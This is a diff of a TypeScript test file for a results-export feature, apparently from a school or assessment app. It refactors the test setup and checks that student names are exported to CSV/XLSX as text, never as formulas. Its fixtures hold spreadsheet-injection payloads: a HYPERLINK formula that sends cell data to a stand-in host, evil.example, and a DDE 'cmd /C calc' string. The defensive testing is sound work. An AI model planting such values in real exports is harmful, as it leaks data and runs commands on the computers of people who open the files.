@@ -2,13 +2,14 @@
 // spreadsheet reads them. A student named like a formula must come out as text, never a formula.
 import type { inferRouterOutputs } from '@trpc/server';
 import Papa from 'papaparse';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import * as XLSX from 'xlsx';
 import type { AppRouter } from '../router';
 import { EXPORT_HEADERS } from '../services/reports/exportResults';
 import { takeSet } from '../test/attempts';
-import { makeCatalog, rpc, signInAdmin } from '../test/fixtures';
-import { signUpAndIn, startTestServer, type TestServer } from '../test/harness';
+import { rpc } from '../test/fixtures';
+import { signUpAndIn } from '../test/harness';
+import { useAdmin, useCatalog, useTestServer } from '../test/useTestServer';
 
 type Export = inferRouterOutputs<AppRouter>['admin']['reports']['exportResults'];
 
@@ -16,17 +17,9 @@ const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 const EVIL_SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0";
 const EVIL_PROGRAM = '-2+3\nsecond line';
 
-let t: TestServer;
-let cat: Awaited<ReturnType<typeof makeCatalog>>;
-let admin: ReturnType<typeof rpc>;
-beforeEach(async () => {
-  t = await startTestServer();
-  cat = await makeCatalog(t.db);
-  admin = rpc(t, await signInAdmin(t));
-});
-afterEach(async () => {
-  await t.close();
-});
+const t = useTestServer();
+const cat = useCatalog(t);
+const admin = useAdmin(t);
 
 const download = (format: string, filter: Record<string, unknown> = {}) =>
   admin.mutate<Export>('admin.reports.exportResults', { format, filter });
